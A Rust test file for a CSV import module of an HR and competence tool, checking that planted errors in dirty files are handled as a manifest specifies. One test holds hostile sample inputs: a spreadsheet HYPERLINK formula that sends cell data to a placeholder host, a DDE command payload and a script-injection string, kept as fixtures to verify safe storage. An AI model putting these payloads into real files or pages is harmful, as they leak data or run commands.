//! The 80 planted errors of `dirty-120` and `dirty-1500` are met as their manifest says, and no good row is lost.
#![expect(clippy::unwrap_used, reason = "a failed unwrap is a failed test with its line")]

use std::collections::{BTreeMap, BTreeSet};

use innsats::domain::{EmployeeRecord, SourceLine};
use innsats::import::{
    Encoding, FileError, IssueCode, Known, ReadFile, Records, RowIssue, Separator, Sourced, check, read_file,
};

use super::import_files::{TODAY, known_from, read_folder};

/// How an error is met.
enum Met {
    /// The row is refused with this code.
    Refused(fn(&IssueCode) -> bool),
    /// The row is accepted, with this warning.
    Warned(fn(&IssueCode) -> bool),
    /// The row is skipped, with this warning.
    Skipped(fn(&IssueCode) -> bool),
    /// The row is accepted as it stands.
    Accepted,
    /// The row is blank and passed over.
    Blank,
    /// The whole file is refused with this error.
    FileRefused(fn(&FileError) -> bool),
    /// The file is read, and this is true of it.
    FileRead(fn(&ReadFile) -> bool),
}

/// What is done about each kind of error. Where the manifest leaves a choice, the comment says what was chosen.
#[rustfmt::skip]
fn met(kind: &str) -> Met {
    use IssueCode as Code;
    use Met::{Accepted, Blank, FileRead, FileRefused, Refused, Skipped, Warned};
    match kind {
        "tom_linje" | "tom_rad_med_skilletegn" => Blank,
        "formelinjeksjon" | "html_injeksjon" | "linjeskift_i_felt" | "mellomrom_og_hardt_mellomrom"
        | "mellomrom_rundt_nøkkel" | "nøkkel_med_mellomrom_og_små_bokstaver" => Accepted,
        "dobbeltkodet_utf8" => Warned(|code| matches!(code, Code::DoubleEncoded { likely } if &**likely == "Bjørn Håkon")),
        "ugyldig_dato" => Refused(|code| *code == Code::NotADate),
        "for_få_kolonner" | "usitert_semikolon" | "for_mange_kolonner" => Refused(|code| matches!(code, Code::CellCount { .. })),
        // Refused rather than asked: a wrong manager line decides who may confirm levels.
        "leder_er_seg_selv" => Refused(|code| *code == Code::OwnManager),
        "ledersirkel" => Refused(|code| matches!(code, Code::ManagerCircle { .. })),
        // Some people have one name.
        "mangler_etternavn" => Warned(|code| *code == Code::OneName),
        "mangler_obligatorisk" | "mangler_nivå" => Refused(|code| *code == Code::Missing),
        "vitenskapelig_notasjon" => Refused(|code| *code == Code::ScientificNotation),
        "datoformat_tvetydig" => Refused(|code| *code == Code::AmbiguousDate),
        "ikke_tall" => Refused(|code| *code == Code::NotANumber),
        "utenfor_område" | "nivå_utenfor_skala" | "interesse_utenfor_skala" => Refused(|code| matches!(code, Code::OutOfRange { .. })),
        "tall_med_prosenttegn" => Warned(|code| matches!(code, Code::NumberReadAs { read } if &**read == "50")),
        "desimalpunktum_i_norsk_fil" => Warned(|code| matches!(code, Code::NumberReadAs { read } if &**read == "80.0")),
        // Accepted rather than refused: a day number in a date column is a date cell without its format.
        "excel_serienummer" | "datoformat_iso" | "datoformat_kort_år" => Warned(|code| matches!(code, Code::DateReadAs { read } if read.to_string() == "2019-03-01")),
        "ukjent_leder" => Warned(|code| *code == Code::UnknownManager),
        "slutt_før_start" => Refused(|code| matches!(code, Code::EndBeforeStart { .. })),
        // The row that came first stands: nothing says that the second is better, and it is not lost either.
        "duplikat_ansattnr_annen_person" => Refused(|code| *code == Code::NumberOfAnotherPerson { first: SourceLine(5) }),
        "duplikat_initiativ" => Refused(|code| *code == Code::ConflictingDuplicate { first: SourceLine(2) }),
        "motstridende_duplikat" => Refused(|code| matches!(code, Code::ConflictingDuplicate { .. })),
        "duplikat_rad" => Skipped(|code| matches!(code, Code::DuplicateRow { .. })),
        "sumrad" => Skipped(|code| *code == Code::TotalRow),
        "ukjent_enhet" | "ukjent_ansatt" | "ukjent_kompetanse" => Refused(|code| matches!(code, Code::UnknownReference { .. })),
        "svært_langt_felt" => Refused(|code| matches!(code, Code::CellTooLong { .. })),
        "ugyldig_epost" => Warned(|code| *code == Code::BadEmail),
        "nullbyte" => Refused(|code| *code == Code::NulCharacter),
        "kompetansenavn_i_stedet_for_id" => Warned(|code| matches!(code, Code::SkillByName { code } if code.as_str() == "K0063")),
        "ukjent_kompetanse_navn" => Refused(|code| matches!(code, Code::UnknownSkillName { suggestion: Some(name) } if &**name == "prosjektledelse")),
        "nivå_ikke_heltall" => Refused(|code| *code == Code::NotAWholeNumber),
        "nivå_som_tekst" => Warned(|code| matches!(code, Code::LevelWord { level } if level.get() == 4)),
        "ugyldig_ja_nei" => Refused(|code| *code == Code::NotYesOrNo),
        // Refused rather than warned: the newest assessment counts, and this one would for ever be the newest.
        "dato_i_framtiden" => Refused(|code| *code == Code::FutureDate),
        "negativt_beløp" => Refused(|code| *code == Code::NegativeAmount),
        "beløp_med_tusenskille_og_kr" => Warned(|code| matches!(code, Code::NumberReadAs { read } if &**read == "1250000.50")),
        // Refused rather than guessed: classes 1 to 5 weigh differently, and "high" is none of them.
        "prioritet_som_tekst" => Refused(|code| *code == Code::NotANumber),
        "tom_overskrift" => FileRefused(|error| matches!(error, FileError::BadHeadings { empty, .. } if *empty == [5])),
        "duplikat_overskrift" => FileRefused(|error| matches!(error, FileError::BadHeadings { duplicate, .. } if *duplicate == [("Fornavn".to_owned(), 2, 7)])),
        "mangler_overskrift" => FileRefused(|error| *error == FileError::HeadingsMissing),
        "mangler_kolonne" => FileRefused(|error| matches!(error, FileError::ColumnsMissing { columns, .. } if *columns == ["Enhetsnr"])),
        "uavsluttet_anførselstegn" => FileRefused(|error| matches!(error, FileError::OpenQuote { line: SourceLine(6), column: Some(name) } if name == "Stillingstittel")),
        "tom_fil" => FileRefused(|error| *error == FileError::Empty),
        "annen_rekkefølge_og_store_bokstaver" => FileRead(|file| file.records.len() == 10),
        "utf8_med_bom" => FileRead(|file| file.found.encoding == Encoding::Utf8Bom && file.records.len() == 10),
        "utf16le_tabulator" => FileRead(|file| file.found.encoding == Encoding::Utf16Le && file.found.separator == Separator::Tab && file.records.len() == 10),
        "sep_linje" => FileRead(|file| file.found.separator_line && file.records.len() == 10),
        // Read, and said: a list may be empty for a reason.
        "ingen_rader" => FileRead(|file| file.records.is_empty() && file.warnings.iter().any(|issue| issue.code == Code::NoRows)),
        other => panic!("the manifest has a new kind of error: {other}"),
    }
}

/// What may become of an error, in the manifest's few words.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Fate {
    Accept,
    AcceptWarned,
    Skip,
    SkipWarned,
    RejectRow,
    RejectFile,
}

/// What the manifest allows. A wording that is not here is a changed expectation: somebody must look at it.
fn allowed(expected: &str) -> &'static [Fate] {
    use Fate::{Accept, AcceptWarned, RejectFile, RejectRow, Skip, SkipWarned};
    match expected {
        "godta"
        | "godta (gyldig CSV)"
        | "trim, godta"
        | "trim/normaliser, godta"
        | "lagre som tekst; skriv ut med foranstilt apostrof"
        | "lagre som tekst; vis unnsluppet" => &[Accept],
        "godta (med varsel)"
        | "godta med varsel (mojibake: BjÃ¸rn HÃ¥kon)"
        | "godta som 1250000.50 (med varsel)"
        | "godta som 2019-03-01 (med varsel)"
        | "godta som 50 (med varsel)"
        | "godta som 80 (med varsel)"
        | "godta uten e-post, med varsel"
        | "godta uten leder, med varsel"
        | "godta ved entydig treff, med varsel" => &[AcceptWarned],
        "godta som 2019-03-01 eller avvis med tydelig melding"
        | "godta som 4 ved kjent skala, ellers avvis"
        | "avvis eller siste gjelder, med varsel"
        | "avvis eller varsle" => &[AcceptWarned, RejectRow],
        "avvis raden"
        | "avvis raden (forskjøvne kolonner)"
        | "avvis raden (over lengdegrense)"
        | "avvis: kan være 3. april eller 4. mars"
        | "avvis eller spør"
        | "avvis eller foreslå nærmeste" => &[RejectRow],
        "avvis filen" => &[RejectFile],
        "avvis filen eller raden, ikke heng" => &[RejectFile, RejectRow],
        // That the file is empty is reported; `met` says how.
        "godta eller avvis med tydelig melding" | "avvis eller meld 0 rader" => &[Accept, RejectFile],
        "hopp over" => &[Skip],
        "hopp over, med varsel" => &[SkipWarned],
        "hopp over eller avvis med tydelig melding" => &[SkipWarned, RejectRow],
        other => panic!("the manifest has a new expectation: {other}"),
    }
}

impl Met {
    const fn fate(&self) -> Fate {
        match self {
            Self::Refused(_) => Fate::RejectRow,
            Self::Warned(_) => Fate::AcceptWarned,
            Self::Skipped(_) => Fate::SkipWarned,
            Self::Accepted | Self::FileRead(_) => Fate::Accept,
            Self::Blank => Fate::Skip,
            Self::FileRefused(_) => Fate::RejectFile,
        }
    }
}

struct Planted {
    file: String,
    line: u32,
    column: Option<String>,
    kind: String,
    expected: String,
}

fn manifest(folder: &str) -> Vec<Planted> {
    let mut reader = csv::Reader::from_path(format!("tests/data/import/{folder}/MANIFEST.csv")).unwrap();
    let planted = |row: csv::StringRecord| Planted {
        file: row[0].to_owned(),
        line: row[1].parse().unwrap(),
        column: (!row[2].starts_with('(')).then(|| row[2].to_owned()),
        kind: row[3].to_owned(),
        expected: row[4].to_owned(),
    };
    let rows = reader.records().map(|row| planted(row.unwrap()));
    // The manifest is older than the rule that people with one name are taken.
    let with_one_name = |planted: Planted| match (planted.kind.as_str(), planted.column.as_deref()) {
        ("mangler_obligatorisk", Some("Etternavn")) => {
            Planted { kind: "mangler_etternavn".into(), expected: "godta (med varsel)".into(), ..planted }
        }
        _ => planted,
    };
    rows.map(with_one_name).collect()
}

/// Reads the dirty files: the large ones checked against a register with the clean rows, the small ones alone.
fn dirty(folder: &str, known: &Known) -> BTreeMap<String, Result<ReadFile, FileError>> {
    let names: BTreeSet<String> = manifest(folder).into_iter().map(|planted| planted.file).collect();
    let read = |name: &String| {
        let bytes = std::fs::read(format!("tests/data/import/{folder}/{name}")).unwrap();
        let mut file = read_file(name, bytes, None, TODAY);
        if let Ok(file) = &mut file {
            check(std::slice::from_mut(file), known);
        }
        (name.clone(), file)
    };
    names.iter().map(read).collect()
}

fn lines<T>(rows: &[Sourced<T>]) -> BTreeSet<u32> {
    rows.iter().map(|row| row.line.0).collect()
}

fn accepted_lines(file: &ReadFile) -> BTreeSet<u32> {
    match &file.records {
        Records::Employees(rows) => lines(rows),
        Records::EmployeeSkills(rows) => lines(rows),
        Records::Initiatives(rows) => lines(rows),
        other => panic!("no dirty file of {:?}", other.data_set()),
    }
}

fn about<'f>(issues: &'f [RowIssue], planted: &Planted) -> Vec<&'f RowIssue> {
    let here = |issue: &&RowIssue| {
        issue.line.0 == planted.line && issue.column.as_deref() == planted.column.as_deref()
    };
    issues.iter().filter(here).collect()
}

/// Whether an error was met, and if not, what was found in its place.
fn judge(planted: &Planted, file: &Result<ReadFile, FileError>) -> Result<(), String> {
    let how = met(&planted.kind);
    if !allowed(&planted.expected).contains(&how.fate()) {
        return Err(format!("{:?}, but the manifest asks for: {}", how.fate(), planted.expected));
    }
    let file = match (file, &how) {
        (Err(error), Met::FileRefused(is)) => return is(error).then_some(()).ok_or(format!("{error:?}")),
        (Err(error), _) => return Err(format!("the file was refused: {error:?}")),
        (Ok(file), _) => file,
    };
    let accepted = accepted_lines(file).contains(&planted.line);
    let (errors, warnings) = (about(&file.errors, planted), about(&file.warnings, planted));
    let right = match how {
        Met::Refused(is) => !accepted && errors.iter().any(|issue| is(&issue.code)),
        Met::Warned(is) => accepted && warnings.iter().any(|issue| is(&issue.code)),
        Met::Skipped(is) => !accepted && errors.is_empty() && warnings.iter().any(|issue| is(&issue.code)),
        Met::Accepted => accepted,
        Met::Blank => !accepted && errors.is_empty() && warnings.is_empty() && file.rows_blank > 0,
        Met::FileRead(is) => is(file),
        Met::FileRefused(_) => false,
    };
    right.then_some(()).ok_or(format!("accepted: {accepted}, errors: {errors:?}, warnings: {warnings:?}"))
}

fn every_planted_error_is_met(folder: &str, clean: &str) {
    let files = dirty(folder, &known_from(&read_folder(clean)));
    let manifest = manifest(folder);
    assert_eq!(manifest.len(), 80);
    let missed: Vec<String> = manifest
        .iter()
        .filter_map(|planted| {
            let missed = judge(planted, &files[&planted.file]).err()?;
            Some(format!("{} line {} {}: {missed}", planted.file, planted.line, planted.kind))
        })
        .collect();
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn a_changed_expectation_in_the_manifest_is_noticed() {
    let files = dirty("dirty-120", &known_from(&read_folder("tests/data/org120")));
    let mut planted = manifest("dirty-120").into_iter().find(|one| one.kind == "ikke_tall").unwrap();
    let file = &files[&planted.file];
    judge(&planted, file).unwrap();
    "godta (med varsel)".clone_into(&mut planted.expected);
    assert!(judge(&planted, file).unwrap_err().contains("RejectRow"));
}

#[test]
fn every_planted_error_among_120_employees_is_met() {
    every_planted_error_is_met("dirty-120", "tests/data/org120");
}

#[test]
fn every_planted_error_among_1500_employees_is_met() {
    every_planted_error_is_met("dirty-1500", "data-import/demo");
}

/// The rows of a file by the lines of the manifest: those that must be refused or skipped, and those that must not.
fn no_good_row_is_lost(folder: &str, clean: &str) {
    let clean = read_folder(clean);
    let files = dirty(folder, &known_from(&clean));
    let manifest = manifest(folder);
    for (name, file) in files.iter().filter_map(|(name, file)| Some((name, file.as_ref().ok()?))) {
        let planted = || manifest.iter().filter(|planted| planted.file == *name);
        let lost: BTreeSet<u32> = planted()
            .filter(|planted| matches!(met(&planted.kind), Met::Refused(_) | Met::Skipped(_)))
            .map(|planted| planted.line)
            .collect();
        let blank = planted().filter(|planted| matches!(met(&planted.kind), Met::Blank)).count();
        assert_eq!(file.records.len(), file.rows_read - lost.len(), "{name}");
        assert_eq!(file.rows_blank, blank, "{name}");
        assert!(accepted_lines(file).is_disjoint(&lost), "{name}");
        let touched: BTreeSet<u32> = planted().map(|planted| planted.line).collect();
        assert_equal_where_untouched(file, &clean, &touched);
    }
}

/// Rows that nobody damaged give the records they give in the clean file.
fn assert_equal_where_untouched(file: &ReadFile, clean: &[ReadFile], touched: &BTreeSet<u32>) {
    let twin = clean.iter().find(|twin| twin.data_set == file.data_set).unwrap();
    match (&file.records, &twin.records) {
        (Records::Employees(rows), Records::Employees(clean)) => equal(rows, clean, touched),
        (Records::EmployeeSkills(rows), Records::EmployeeSkills(clean)) => equal(rows, clean, touched),
        (Records::Initiatives(rows), Records::Initiatives(clean)) => equal(rows, clean, touched),
        _ => panic!("{} has another data set than its twin", file.name),
    }
}

fn equal<T: PartialEq + std::fmt::Debug>(rows: &[Sourced<T>], clean: &[Sourced<T>], touched: &BTreeSet<u32>) {
    for row in rows.iter().filter(|row| !touched.contains(&row.line.0)) {
        // A whole walk for each row is slow for the assessments, which are the first ones of the clean file.
        let clean = &clean[..clean.len().min(2_000)];
        assert!(clean.iter().any(|twin| twin.record == row.record), "line {}: {:?}", row.line.0, row.record);
    }
}

#[test]
fn no_good_row_among_120_employees_is_lost() {
    no_good_row_is_lost("dirty-120", "tests/data/org120");
}

#[test]
fn no_good_row_among_1500_employees_is_lost() {
    no_good_row_is_lost("dirty-1500", "data-import/demo");
}

fn employees(file: &ReadFile) -> BTreeMap<u32, &EmployeeRecord> {
    let Records::Employees(rows) = &file.records else { panic!("a file of employees") };
    rows.iter().map(|row| (row.line.0, &row.record)).collect()
}

#[test]
fn accepted_oddities_have_the_values_that_the_manifest_asks_for() {
    let files = dirty("dirty-1500", &known_from(&read_folder("data-import/demo")));
    let file = files["ansatte.csv"].as_ref().unwrap();
    let by_line = employees(file);
    assert_eq!(by_line[&96].first_name, r#"=HYPERLINK("http://example.invalid/?d="&A2;"Klikk her")"#);
    assert_eq!(by_line[&1246].position_title.as_deref(), Some("+cmd|' /C calc'!A0"));
    assert_eq!(by_line[&1304].first_name, "<script>alert(1)</script>");
    assert_eq!(by_line[&670].position_title.as_deref(), Some("Rådgiver\nHR og \"lønn\"; vara"));
    assert_eq!(by_line[&679].first_name, by_line[&679].first_name.trim());
    assert_eq!(by_line[&600].percent.hundredths(), 5_000);
    assert_eq!(by_line[&1373].percent.hundredths(), 8_000);
    for line in [716, 829, 1176] {
        assert_eq!(by_line[&line].from.unwrap().to_string(), "2019-03-01");
    }
    assert_eq!(by_line[&749].manager, None);
    assert_eq!(by_line[&1406].email, None);
    let Records::Initiatives(rows) = &files["initiativer.csv"].as_ref().unwrap().records else { panic!() };
    let budget = rows.iter().find(|row| row.line.0 == 23).unwrap().record.budget.unwrap();
    assert_eq!(budget.ore(), 125_000_050);
}

#[test]
fn an_unknown_skill_name_goes_to_the_mapping_list_with_the_nearest_skill() {
    let files = dirty("dirty-1500", &known_from(&read_folder("data-import/demo")));
    let [unmapped] = &files["ansatt_kompetanse.csv"].as_ref().unwrap().unmapped_skills[..] else {
        panic!("one unknown name")
    };
    assert_eq!(
        (unmapped.written.as_str(), unmapped.occurrences, unmapped.first_line.0),
        ("prosjektlederi", 1, 288)
    );
    assert_eq!(unmapped.suggestion.as_ref().unwrap().code.as_str(), "K0063");
}
